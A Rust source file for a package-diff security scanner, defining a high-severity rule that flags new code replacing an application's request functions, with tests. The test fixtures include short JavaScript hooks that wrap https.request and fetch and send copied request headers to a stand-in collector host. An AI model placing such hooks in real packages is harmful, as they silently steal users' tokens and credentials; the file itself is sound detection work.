//! `new-request-hook`: new code replaces the application's request functions.

use turncoat_finding::{Finding, Level, RuleDoc, Severity};

use super::{DiffCx, Weight, capability_rule};
use crate::facts::Capability;

pub(crate) const RULE: RuleDoc = RuleDoc {
    code: "new-request-hook",
    group: "analyze",
    severity: Severity::High,
    default_level: Level::Deny,
    summary: "New code replaces the application's request functions (https.request, fetch, XMLHttpRequest) with its own.",
    doc: r#"Flags assignments that replace a request function of the program the package runs in: `https.request = …`, `http.get = …`, `globalThis.fetch = …`, `fetch = …`, `XMLHttpRequest.prototype.open/send/setRequestHeader = …`, `http.ClientRequest.prototype.* = …`. The message says when the replacement reads headers, authorization or cookies.

**Why it matters.** A library that replaces `fetch` or `https.request` sees every request its host application makes — URLs, bodies and the `Authorization` headers that carry its tokens — without reading a single environment variable, and it needs no capability the package did not already have (a wrapper calls the original). Browser-wallet drainers and credential skimmers work this way. That is much stronger than `new-network`, which only says the package can make requests of its own.

Instrumentation libraries (APM, tracing, mocking) do this by design; they did it in the previous version too, so they stay quiet.

**How to silence.** A policy exception on `new-request-hook` for the exact `name@version`, after reading the code."#,
};

pub(crate) fn diff(cx: &DiffCx<'_>, out: &mut Vec<Finding>) {
    out.extend(capability_rule(
        cx,
        &RULE,
        Capability::RequestHook,
        Weight::Fixed,
        |_| true,
    ));
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::rules::testing::*;

    const OLD: &str =
        "const https = require('https');\nmodule.exports = (u, cb) => https.get(u, cb);\n";

    #[test]
    fn replacing_request_functions_fires() {
        for patch in [
            "const orig = https.request;\nhttps.request = function (opts, cb) {\n  const h = Object.assign({}, opts.headers);\n  orig({ hostname: 'c.collector.example', method: 'POST' }).end(JSON.stringify(h));\n  return orig.apply(this, arguments);\n};\n",
            "const f = globalThis.fetch;\nglobalThis.fetch = async (u, o = {}) => { navigator.sendBeacon('https://c.collector.example', JSON.stringify(o.headers)); return f(u, o); };\n",
            "const send = XMLHttpRequest.prototype.setRequestHeader;\nXMLHttpRequest.prototype.setRequestHeader = function (k, v) { (window.__h = window.__h || []).push([k, v]); return send.call(this, k, v); };\n",
        ] {
            let f = diff_index(OLD, &format!("{OLD}{patch}"));
            let hit = find(&f, RULE.code).unwrap_or_else(|| panic!("{patch}: {:?}", codes(&f)));
            assert!(hit.message.contains("reading headers"), "{}", hit.message);
        }
    }

    #[test]
    fn calling_or_wrapping_without_replacing_is_quiet() {
        let new = format!(
            "{OLD}const request = (o) => https.request(o);\nconst myFetch = (u) => fetch(u);\nmodule.exports.request = request;\n"
        );
        let f = diff_index(OLD, &new);
        assert!(find(&f, RULE.code).is_none(), "{f:?}");
    }

    #[test]
    fn replacing_through_aliases_computed_names_and_define_property_fires() {
        for patch in [
            // An alias of the module.
            "const h = https;\nconst o = h.request;\nh.request = function (a, b) { return o(a, b); };\n",
            // A computed, spliced property name.
            "const o = https.request;\nhttps['req' + 'uest'] = function (a, b) { return o(a, b); };\n",
            // Not an assignment at all.
            "const o = https.request;\nObject.defineProperty(https, 'request', { value: (a, b) => o(a, b) });\n",
            "const o = globalThis.fetch;\nReflect.set(globalThis, 'fetch', (u, i) => o(u, i));\n",
            "const o = https.get;\nObject.assign(https, { get: (a, b) => o(a, b) });\n",
        ] {
            let f = diff_index(OLD, &format!("{OLD}{patch}"));
            assert!(find(&f, RULE.code).is_some(), "{patch}: {:?}", codes(&f));
        }
    }
}
